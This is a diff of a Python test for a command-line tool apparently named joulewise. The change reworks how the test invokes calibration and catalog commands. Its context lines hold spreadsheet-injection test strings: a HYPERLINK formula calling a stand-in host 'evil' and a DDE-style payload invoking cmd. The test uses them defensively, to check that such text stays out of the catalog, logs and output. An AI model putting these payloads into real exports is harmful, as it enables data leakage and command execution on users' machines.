@@ -23,6 +23,14 @@ ROOT = Path(__file__).resolve().parents[1]
 PACKAGES = ("advisor", "api", "calibration", "catalog")
 CANARY = "Kanarienvogel"
 Tried = Callable[[int], None]
+COMMAND = """
+from api.cli import app
+from calibration import protocol
+
+protocol.PROFILES["quick"] = protocol.Profile(name="quick", window_s=0.1, repeats=3, warmup_s=0.1)
+app()
+"""
+"""`joulewise` with windows of a tenth of a second."""
 TEXTS = (
     f'=HYPERLINK("http://evil/?{CANARY}")',
     f"@SUM(1+1)*cmd|' /C {CANARY}'!A0",
@@ -135,7 +143,7 @@ def test_an_artefact_with_a_pickle_is_refused_unread(tmp_path: Path) -> None:
 
 
 def test_texts_enter_neither_catalog_nor_logs_nor_output(
-    url: str, tmp_path: Path, tried: Tried
+    url: str, tmp_path: Path, tried: Tried, command: Callable[..., subprocess.CompletedProcess[str]]
 ) -> None:
     """Formulas, markup and a canary in texts are classified and shown nowhere."""
     data = tmp_path / "data"
@@ -150,23 +158,28 @@ def test_texts_enter_neither_catalog_nor_logs_nor_output(
         "XDG_STATE_HOME": str(tmp_path / "state"), "PYTHONPATH": str(ROOT),
     }  # fmt: skip
 
-    def command(*words: str) -> str:
-        done = subprocess.run(
-            [sys.executable, "-c", "from api.cli import app; app()", *words], cwd=tmp_path,
-            env=environment, capture_output=True, text=True, check=False, timeout=300,
-        )  # fmt: skip
+    def shown(done: subprocess.CompletedProcess[str]) -> str:
         return f"{done.returncode} {done.stdout} {done.stderr}"
 
+    def calibrate(*words: str) -> str:
+        return shown(subprocess.run(
+            [sys.executable, "-c", COMMAND, "calibrate", *words], cwd=tmp_path,
+            env=environment, capture_output=True, text=True, check=False, timeout=300,
+        ))  # fmt: skip
+
+    def joulewise(*words: str) -> str:
+        return shown(command(*words, environment=environment, cwd=tmp_path))
+
     said = [
-        command("calibrate", "--workload", "notes", "--candidate", "bow-complement-nb",
-                "--log", "own.log", "--profile", "quick"),
-        command("catalog", "export", "out.csv", "--own"),
-        command("catalog", "list", "--json"),
-        command("recommend", "--task", "notes", "--min-acc", "0.1", "--json"),
+        calibrate("--workload", "notes", "--candidate", "bow-complement-nb",
+                  "--log", "own.log", "--profile", "quick"),
+        joulewise("catalog", "export", "out.csv", "--own"),
+        joulewise("catalog", "list", "--json"),
+        joulewise("recommend", "--task", "notes", "--min-acc", "0.1", "--json"),
     ]  # fmt: skip
     assert said[0].startswith(("0", "6")), said[0]
     (data / "broken.csv").write_text(f'text,label\n"{CANARY} open,1\n{CANARY}', encoding="utf-8")
-    said.append(command("calibrate", "--workload", "broken", "--candidate", "bow-complement-nb"))
+    said.append(calibrate("--workload", "broken", "--candidate", "bow-complement-nb"))
     assert not said[-1].startswith("0")
     store = Store(url)
     with store.engine.connect() as connection:
